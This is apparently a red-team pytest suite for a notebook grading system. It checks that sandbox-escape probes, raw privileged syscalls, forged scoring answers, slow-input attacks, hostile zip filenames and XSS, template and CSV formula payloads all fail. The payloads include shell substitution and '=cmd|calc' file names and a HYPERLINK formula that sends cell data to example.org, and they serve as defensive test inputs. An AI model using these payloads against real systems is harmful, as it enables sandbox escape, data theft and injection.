"""Attacks that need no submission of their own: many of each kind share one run."""

from __future__ import annotations

import csv
import json
import stat
import subprocess
import sys
import textwrap
import warnings
import zipfile
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from grading.intake.collection import collect
from grading.intake.roster import read_roster
from grading.reports import feedback, items, similarity
from grading.results import Mark, Result, Student
from grading.sandbox import sandbox
from grading.sandbox._wire import Unusable, loads
from tests.grading.pages import harm
from tests.grading.redteam import BREACH, HTML, tiny
from tests.grading.trial import Outcome, answered

ROOT = Path(__file__).resolve().parents[2]

# ------------------------------------------------------- a process that looks around: one sandbox

CALLS = {  # system calls by their numbers on x86_64, which must not succeed
    "reads-memory-of-others": (310, 1, 0, 0, 0, 0, 0),
    "takes-descriptors-of-others": (438, 0, 0, 0),
    "compares-with-others": (312, 1, 1, 0, 0, 0),
    "opens-a-key-ring": (250, 0, -3, 1),
    "adds-a-key": (248, 0, 0, 0, 0, -3),
    "loads-a-filter-into-the-kernel": (321, 0, 0, 0),
    "watches-with-counters": (298, 0, 0, -1, -1, 0),
    "handles-faults": (323, 0),
    "opens-by-handle": (304, -100, 0, 0),
    "names-a-handle": (303, -100, 0, 0, 0, 0),
    "opens-a-tree": (428, -100, 0, 1),
    "opens-a-file-system": (430, 0, 0),
    "moves-a-mount": (429, -100, 0, -100, 0, 0),
    "turns-the-root": (155, 0, 0),
    "takes-a-queue": (68, 0, 0o1666),
    "takes-semaphores": (64, 0, 1, 0o1666),
    "opens-a-message-queue": (240, 0, 0o102, 0o666, 0),
    "changes-its-personality": (135, 0x0040000),
    "reads-the-log": (103, 3, 0, 0),
    "reboots": (169, -18751827, 672274793, 0, 0),
    "swaps": (167, 0, 0),
    "loads-a-module": (313, 0, 0, 0),
    "sets-the-clock": (227, 0, 0),
    "takes-ports": (172, 3),
    "hides-memory": (447, 0),
    "watches-all-files": (300, 0, 0),
    "calls-what-is-newer": (470, 0, 0, 0),
}
LOOKS = {
    "another-way-to-memory": "open('/proc/1/mem', 'rb')",
    "memory-of-its-own-parent": "import os\nopen(f'/proc/{os.getppid()}/mem', 'rb')",
    "maps-itself-a-user": "print('0 0 1', file=open('/proc/self/uid_map', 'w'), flush=True)",
    "lets-others-be-killed": "print(-1000, file=open('/proc/self/oom_score_adj', 'w'), flush=True)",
    "runs-in-real-time": "import os\nos.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))",
    "takes-the-name-of-the-host": "import socket\nsocket.sethostname('mine')",
    "opens-a-terminal": "open('/dev/tty', 'w')",
    "writes-to-the-kernel": "open('/dev/kmsg', 'w')",
    "makes-a-tunnel": "open('/dev/net/tun', 'rb+')",
    "writes-to-a-control-group": "open('/sys/fs/cgroup/cgroup.procs', 'w').write('0')",
    "asks-the-kernel-to-encrypt": "import socket\nsocket.socket(38, socket.SOCK_SEQPACKET)",
    "speaks-to-bluetooth": "import socket\nsocket.socket(31, socket.SOCK_RAW)",
    "makes-a-file-without-end": "open('/tmp/hole', 'wb').truncate(10 ** 10)",
    "maps-the-runner-for-writing": "import mmap\nfile = open('/grader/_inside.py', 'rb+')",
    "shares-more-memory-than-there-is": "import os\n"
    "with open('/dev/shm/all', 'wb') as file:\n    file.write(bytes(60_000_000))",
    "locks-memory": "import ctypes\nassert ctypes.CDLL(None).mlockall(3) == 0",
    "raises-its-priority": "import os\nos.setpriority(os.PRIO_PROCESS, 0, -20)",
    "opens-more-files-than-it-may": "files = [open('/dev/null') for _ in range(300)]",
    "mounts-over-its-packages": "import subprocess\n"
    "subprocess.run(['mount', '--bind', '/tmp', '/packages'], check=True, capture_output=True)",
    "leads-out-by-a-link": "import os\nos.symlink('/proc/1/root', '/tmp/out')\n"
    "assert set(os.listdir('/tmp/out')) - set(os.listdir('/'))",
}
LOOK = """
try:
{body}
except BaseException as error:
    print("stopped", type(error).__name__)
else:
    print("BRE" "ACH")
"""
CALL = """
import ctypes
assert ctypes.CDLL(None, use_errno=True).syscall({numbers}) >= 0
"""


def numbers_of(call: tuple[int, ...]) -> str:
    return ", ".join(f"ctypes.c_long({each})" for each in call)


SOURCES = LOOKS | {name: CALL.format(numbers=numbers_of(call)) for name, call in CALLS.items()}


@pytest.fixture(scope="module")
def looked() -> sandbox.Run:
    """Run all of them, one after the other in one sandbox."""
    steps = [
        sandbox.Execute(name, LOOK.format(body=textwrap.indent(source.strip(), "    ")))
        for name, source in SOURCES.items()
    ]
    collect_last = sandbox.Collect("sound", "def answer(): return {'sum': 1 + 1}")
    return sandbox.run([*steps, collect_last], sandbox.Limits(cell_seconds=5))


@pytest.mark.parametrize("name", SOURCES)
def test_a_process_that_looks_around_finds_nothing(looked: sandbox.Run, name: str) -> None:
    (output,) = looked.outputs[name]
    assert output["text"].startswith("stopped"), output
    assert BREACH not in output["text"]
    assert looked.answers == {"sound": {"sum": 2}}
    assert looked.ended == ""


# ------------------------------------------------------------------- what comes out over the wire

LINES = {
    "shape-with-two-holes": '{"array": [1, 2], "kind": "float64", "shape": [-1, -1]}',
    "shape-of-floats": '{"array": [1], "kind": "float64", "shape": [1.0]}',
    "shape-of-truths": '{"array": [1], "kind": "float64", "shape": [true]}',
    "shape-beyond-what-there-is": '{"array": [], "kind": "float64", "shape": [1000000000, 9]}',
    "shape-of-many-axes": f'{{"array": [1], "kind": "float64", "shape": {[1] * 40}}}',
    "kind-of-objects": '{"array": [1], "kind": "O", "shape": [1]}',
    "kind-of-records": '{"array": [1], "kind": [["a", "float64"]], "shape": [1]}',
    "kind-that-is-a-class": '{"array": [1], "kind": "grading.hidden.Wrong", "shape": [1]}',
    "entries-of-mappings": '{"array": [{"mapping": []}], "kind": "float64", "shape": [1]}',
    "integers-that-are-none": '{"array": [NaN], "kind": "int64", "shape": [1]}',
    "integers-too-large": f'{{"array": [{9**99}], "kind": "int64", "shape": [1]}}',
    "complex-of-one-part": '{"array": [[1]], "kind": "complex128", "shape": [1]}',
    "more-than-is-known": '{"array": [1], "kind": "int64", "shape": [1], "points": 9}',
    "two-tags-at-once": '{"mapping": [], "unusable": "x"}',
    "a-pickle": '{"unusable": "x", "pickle": "gASVBQAAAAAAAABLAS4="}',
    "a-mapping-for-a-mapping": '{"mapping": {"a": 1}}',
    "a-key-that-is-none": '{"mapping": [[null, 1]]}',
    "two-values-on-a-line": "1 2",
    "a-number-of-ten-thousand-digits": "9" * 10_000,
}


@pytest.mark.parametrize("name", LINES)
def test_a_line_that_no_encoder_writes_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match="answer"):
        loads(LINES[name])


@cache
def right(assignment: str, question: str) -> tuple[Any, Any, Any]:
    return answered(assignment, question)


def judged(assignment: str, question: str, change: Callable[[Any], Any]) -> Outcome:
    """Return what a forged answer earns, made of the right one by a change."""
    trial, given, asked = right(assignment, question)
    return trial.judge(change(given), asked)


def each_value(value: Any) -> Callable[[Any], Any]:
    """Return what puts the same value in place of all that an answer hands over."""
    return lambda given: dict.fromkeys(given, value)


def calls_with(**other: Any) -> Callable[[Any], Any]:
    """Return what changes every call of an answer to the third question of problem set 2."""
    return lambda given: {kind: [call | other for call in calls] for kind, calls in given.items()}


def renamed(given: Any, question: str) -> Any:
    """Give all lines of a figure all names that count, so that each is tried for each."""
    names = {"q1": ["measured", "predicted"], "q2": ["divided", "not divided", "folded"]}[question]
    drawn = given.get("drawn", given)
    pieces = [
        each | {"label": name, "y": np.asarray(each["y"]) * factor}
        for each in drawn["pieces"]
        if len(each["x"]) > 1
        for factor in (1.1, 1.0)
        for name in names
    ]
    changed = drawn | {"pieces": pieces, "entries": [{"text": name} for name in names]}
    return given | {"drawn": changed} if "drawn" in given else changed


FORGED: dict[str, tuple[str, str, Callable[[Any], Any], float]] = {
    "infinities-with-the-right-sum": (
        "problem_set_1", "q1", lambda _: {"within": np.inf, "between": -np.inf}, 0.0),
    "numbers-whose-sum-overflows": (
        "problem_set_1", "q1", lambda _: {"within": 1.7e308, "between": 1.7e308}, 0.0),
    "numbers-as-truths": ("problem_set_1", "q1", each_value(True), 0.0),
    "numbers-as-names": ("problem_set_1", "q1", each_value(Unusable("float64")), 0.0),
    "widths-as-truths": ("problem_set_1", "q2", each_value(np.ones((4, 2), dtype=bool)), 0.0),
    "widths-of-nothing": ("problem_set_1", "q2", each_value(np.zeros((0, 2))), 0.0),
    "widths-broadcast": ("problem_set_1", "q2", lambda given: {"frozen": given["frozen"][:1]}, 0.0),
    "widths-of-all-programs-at-once": (
        "problem_set_1", "q2", lambda given: {"frozen": np.stack([given["frozen"]] * 2)}, 0.0),
    "positions-of-one-number": (
        "problem_set_1", "q3", lambda given: given | {"found": [8.0] * len(given["found"])}, 0.0),
    "positions-for-too-many": (
        "problem_set_1", "q3", lambda given: given | {"found": given["found"] * 2}, 0.0),
    "positions-without-proof": (
        "problem_set_1", "q3", lambda given: {"found": given["found"]}, 0.0),
    "lines-under-all-names": ("problem_set_1", "q4", partial(renamed, question="q1"), 0.0),
    "lines-of-other-forms": (
        "problem_set_1", "q4", lambda given: given | {"pieces": [{"x": {}, "y": "1"}, 3]}, 0.0),
    "changes-of-everything": ("problem_set_2", "q1", each_value(np.full(6, 1e300)), 0.0),
    "changes-of-almost-nothing": ("problem_set_2", "q1", each_value(np.full(6, 1e-300)), 0.0),
    "temperatures-of-infinity": (
        "problem_set_2", "q2", lambda given: {k: [np.inf] * len(v) for k, v in given.items()}, 0.0),
    "temperatures-of-zero": (
        "problem_set_2", "q2", lambda given: {k: [0.0] * len(v) for k, v in given.items()}, 0.0),
    "temperatures-in-pairs": (
        "problem_set_2", "q2", lambda given: {k: [[0.0, np.inf, e] for e in v]
                                              for k, v in given.items()}, 0.0),
    "arguments-that-nobody-saw": ("problem_set_2", "q3", calls_with(after=None), 0.8),
    "arguments-that-equal-all": ("problem_set_2", "q3", calls_with(after=True, kept=True), 0.8),
    "outputs-of-nothing": ("problem_set_2", "q3", calls_with(output=np.zeros((0, 1))), 0.0),
    "outputs-as-an-error": ("problem_set_2", "q3", calls_with(output="an error"), 0.0),
    "arms-under-all-names": ("problem_set_2", "q4", partial(renamed, question="q2"), 0.5),
    "rates-alone": ("problem_set_2", "q4", lambda given: given | {"drawn": {"panels": 1}}, 0.5),
    "rates-of-nothing": (
        "problem_set_2", "q4", lambda given: given | {"rate_q": 0.0, "rate_k": -0.0}, 0.25),
}  # fmt: skip


@pytest.mark.usefixtures("figures_as_in_a_notebook")
@pytest.mark.parametrize("name", FORGED)
def test_a_forged_answer_earns_what_its_honest_part_earns(name: str) -> None:
    assignment, question, change, earns = FORGED[name]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        outcome = judged(assignment, question, change)
    assert outcome.earned == pytest.approx(earns), outcome.message
    assert outcome.message


# ------------------------------------------- what takes long outside, where no sandbox limits it

SLOW = {
    "blanks-behind-for": "running.names(own('for' + ' ' * 300_000))",
    "line-of-loops": "running.names(own('# ' + 'for x ' * 150_000))",
    "line-of-equalities": "running.names(own('=' * 500_000)), running.names(own('a =' * 200_000))",
    "lines-of-definitions": "running.names(own('def \\n' * 100_000 + 'global' + ' ' * 99_999))",
    "pictures-without-number": "pictures.lifted(text, ''.join("
    "f'![a](data:image/png;base64,{i})' for i in range(200_000)), {})",
    "one-picture-many-times": "pictures.lifted(text | {'attachments': {'a': {'image/png': "
    "'A' * 4_000_000}}}, '![a](attachment:a) ' * 100_000, {})",
    "set-up-of-ten-thousand-lines": "added('\\n'.join(f'x{i} = {i}' for i in range(10_000)))",
    "set-up-on-one-line": "added('; '.join(f'x{i} = {i}' for i in range(10_000)))",
    "set-up-of-magics": "added('%x\\n' * 100_000)",
    "titles-of-signs": "refused(('#' * 400_000, '# ' + ' ' * 400_000, '#\\n' * 200_000))",
    "cells-of-nothing": "refused([' ' * 400] * 2_000)",
    "shapes-of-one-line": "list(similarity.features('x = ' + ' + '.join('a[b](c)' * 2 for _ in"
    " range(1_200))))",
    "shapes-of-no-code": "list(similarity.features('(' * 20_000 + '\\n' * 10_000))",
    "names-without-end": "safe_text.safe_name('\\ud800=' * 300_000), "
    "safe_text.shown('\\u202e' * 10 ** 6)",
    "legend-of-many": "figures.named_series({'pieces': [piece] * 500, 'entries': "
    "[{'text': 'a', 'color': 'r', 'shape': 'o'}] * 500})",
    "outputs-of-escapes": "outputs.clean_outputs([{'output_type': 'stream', 'text': "
    "'\\x1b[' * 40_000}] * 200)",
    "causes-of-brackets": "submission._told('E', ' (line ' * 300)",
}
TAKEN = """
import json, resource, sys
resource.setrlimit(resource.RLIMIT_CPU, (40, 40))
from pathlib import Path
from grading import figures, pictures, problem_set, safe_text
from grading.intake import normalize
from grading.marking import running, submission
from grading.reports import similarity
from grading.sandbox import outputs
tiny = problem_set.read(Path("tests/grading/source/tiny/tiny.ipynb"))
text = {"cell_type": "markdown"}
piece = {"label": "a", "color": "r", "shape": "o", "x": list(range(300)), "y": list(range(300))}
def own(source):
    return normalize.WorkCell(None, "own", "code", source, None)
def added(more):
    given = tiny.by_name["setup"]
    source = given.source + chr(10) + more
    return normalize._added(given, normalize._SubmittedCell("code", source, "setup"))
def refused(sources):
    cells = [text | {"source": each} for each in sources]
    try:
        normalize.normalize(json.dumps({"nbformat": 4, "cells": cells}).encode(), tiny)
    except normalize.Invalid:
        pass
for name, call in json.load(sys.stdin).items():
    eval(call)
    print(name, flush=True)
"""


@pytest.fixture(scope="module")
def taken() -> str:
    """Return which of them ended while all together took a limited time of the processor."""
    done = subprocess.run(
        [sys.executable, "-c", TAKEN], input=json.dumps(SLOW), cwd=ROOT, capture_output=True,
        text=True, check=False,
    )  # fmt: skip
    return f"{done.stdout}{done.returncode}: {done.stderr[-2000:]}"


@pytest.mark.proof("redteam")
@pytest.mark.parametrize("name", SLOW)
def test_what_a_file_holds_takes_little_time_outside(taken: str, name: str) -> None:
    """All of it takes a few seconds; what is quadratic takes minutes each."""
    assert name in taken.split(), taken


# ------------------------------------------------------------------------------- what is handed in

CANVAS = {
    "fine": ("tiny.ipynb", "came"),
    "path-with-backslashes": ("..\\..\\tiny.ipynb", "missing"),
    "path-of-a-drive": ("x/../../tiny.ipynb", "missing"),
    # these two are left to a human, under a name of their own
    "line-of-a-table": ("tiny\n=cmd|calc,honest,1000.ipynb", "missing"),
    "name-of-a-device": ("con.ipynb", "came"),
    "name-turned-round": ("tiny\u202ebnypi.exe.ipynb", "came"),
    "name-of-fifty-thousand": (f"{'a' * 50_000}.ipynb", "came"),
    "name-for-a-shell": ("$(touch x);`touch x`|tiny.ipynb", "came"),
    "name-that-is-an-option": ("--unsafe-no-sandbox.ipynb", "came"),
    "name-that-is-a-format": ("{0.__class__}%s%n.ipynb", "came"),
    "notebook-that-is-a-page": ("tiny.ipynb.html", "invalid"),
    "notebook-that-is-hidden": ("._tiny.ipynb", "came"),
    "name-of-another-late": ("LATE_101_9_tiny.ipynb", "needs-review"),
    "name-in-a-field": ("tiny.ipynb", "came"),
    "file-that-is-a-disk": ("tiny.ipynb", "came"),
}  # fmt: skip
PERSON = {name: f"s{i}" for i, name in enumerate(CANVAS, 101)}


def entry_of(name: str) -> zipfile.ZipInfo:
    """Return an entry as Canvas would write it, with what only some tools write."""
    number = PERSON[name][1:]
    entry = zipfile.ZipInfo(f"example{name.replace('-', '')}_{number}_{number}9_{CANVAS[name][0]}")
    if name == "name-in-a-field":  # Info-ZIP's other name of the file
        other = b"\1\0\0\0\0examplefine_101_9999_tiny.ipynb"
        entry.extra = b"up" + len(other).to_bytes(2, "little") + other
    if name == "file-that-is-a-disk":
        entry.external_attr = (stat.S_IFBLK | 0o666) << 16
    return entry


@pytest.fixture(scope="module")
def arrived(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Collect all of them from one zip, behind a picture and before a comment that is a zip."""
    base = tmp_path_factory.mktemp("arrived")
    path = base / "tiny.zip"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 1000)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.comment = b"PK\1\2 PK\3\4 tiny.ipynb" * 900
        for name in CANVAS:
            archive.writestr(entry_of(name), name.encode())
    rows = [f"{each},{each[1:]},Example {name}" for name, each in PERSON.items()]
    (base / "roster.csv").write_text("\n".join(["student_id,lms_id,name", *rows]))
    before = {each.name for each in base.iterdir()}
    collection = collect(path, read_roster(base / "roster.csv"), ["tiny"])
    found = {each.student.student_id: each for each in collection}
    return {"found": found, "notes": collection.notes, "left": {*before}, "base": base}


@pytest.mark.parametrize("name", CANVAS)
def test_a_name_in_a_zip_says_whose_it_is_and_no_more(arrived: dict[str, Any], name: str) -> None:
    found = arrived["found"][PERSON[name]]
    status = found.problem[0] if found.problem else "came"
    assert status == CANVAS[name][1], found
    if status == "came":
        assert found.notebook == name.encode()
    said = [*arrived["notes"], *(each.origin for each in arrived["found"].values())]
    assert all(line.isprintable() for line in said)
    assert {each.name for each in arrived["base"].iterdir()} == arrived["left"]
    for student, each in arrived["found"].items():  # nobody has anybody else's
        mine = [key for key, value in PERSON.items() if value == student]
        assert each.notebook is None or student not in PERSON.values() or each.notebook in (
            key.encode() for key in mine
        )  # fmt: skip


def test_a_time_beside_the_notebook_in_moodles_folder_is_not_believed(tmp_path: Path) -> None:
    folder = "Ada Example_101_assignsubmission_file/tiny"
    with zipfile.ZipFile(tmp_path / "in.zip", "w") as archive:
        archive.writestr(f"{folder}/tiny.ipynb", b"{}")
        archive.writestr(f"{folder}/timestamp.txt", b"2020-01-01 00:00:00.000000 UTC")
    (tmp_path / "roster.csv").write_text("student_id,lms_id,name\ns101,101,Ada Example\n")
    collection = collect(tmp_path / "in.zip", read_roster(tmp_path / "roster.csv"), ["tiny"])
    (work,) = collection
    receipt = collection.receipt(work)
    assert work.notebook == b"{}"
    assert receipt is not None
    assert receipt.submitted is None


# ----------------------------------------------------- what the instructor looks at, and exports

PAYLOADS = {
    "elements": HTML,
    "end-of-an-attribute": '"\'> <img src=x onerror=steal()> onmouseover="steal()',
    "templates": "{{ steal() }} {% include '/etc/passwd' %} ${steal()} #{steal()}",
    "comments": "<!-- --><script>steal()</script> ]]> <![CDATA[<script>steal()</script>",
    "entities": "&lt;script&gt;steal()&lt;/script&gt; &#60;img src=x onerror=steal()&#62;",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "formula-behind-a-blank": "  \t+1+cmd|' /C calc'!A0",
    "formula-in-wide-letters": "\uff1d1+1",
    "formula-in-lines": "x\r\n=1+1,honest,1000\r\n@SUM(1)",
    "directions-and-terminals": "\u202e\u2066 \x1b[2J\x1b]0;x\x07 \x00 \x85 \ufeff",
}


@cache
def instructors(payload: str) -> dict[str, str]:
    """Return what there is to look at where everybody wrote one thing, and is called so."""
    cells = tuple(
        feedback.ShownCell("q1", "answer", "code", f"x{i} = 1\n# {payload}\n" * 9, question="q1")
        for i in range(2)
    )
    works = [similarity.Work(f"{payload} {i}", cells) for i in range(12)]
    group = similarity.Class(works, ["q1"])
    pairs = group.pairs()
    marks = [tuple(Mark(each.name, i % 2 * 1.0, each.points, payload) for each in tiny().questions)
             for i in range(12)]  # fmt: skip
    results = [
        Result(Student(f"s{i}", "", payload), "tiny", "graded", payload, marks[i])
        for i in range(12)
    ]
    analysis = items.analyze(results, tiny())
    assert pairs
    return {
        "similarity.html": similarity.page(group, pairs, "tiny"),
        "similarity.csv": similarity.table(pairs),
        "items.html": items.page(analysis),
        "items.csv": items.table(analysis),
        "page.html": feedback.page(
            tiny(), Student("s1", "", payload), "graded", payload, cells, marks[0], [payload]
        ),
    }


@cache
def harm_of_nothing(file: str) -> list[str]:
    """Return what is found in a page of students who wrote nothing odd."""
    return harm(instructors("nothing")[file])


@pytest.mark.parametrize("name", PAYLOADS)
def test_what_students_wrote_does_nothing_where_instructors_look(name: str) -> None:
    for file, text in instructors(PAYLOADS[name]).items():
        if file.endswith(".html"):
            assert harm(text) == harm_of_nothing(file), file
            assert not set("\x1b\x00\x85\u202e\u2066\ufeff") & set(text), file
            continue
        for row in csv.reader(text.splitlines()):
            for value in row:
                number = value.replace(".", "").replace("-", "").isdigit() or "e-" in value
                assert number or not value.lstrip().startswith(tuple("=+-@\uff1d")), (file, value)
                assert value.isprintable(), (file, value)


def test_there_are_a_hundred_more() -> None:
    from tests.grading.attacks import MORE

    kinds = (MORE, SOURCES, LINES, FORGED, SLOW, CANVAS, PAYLOADS)
    assert sum(map(len, kinds)) > 200
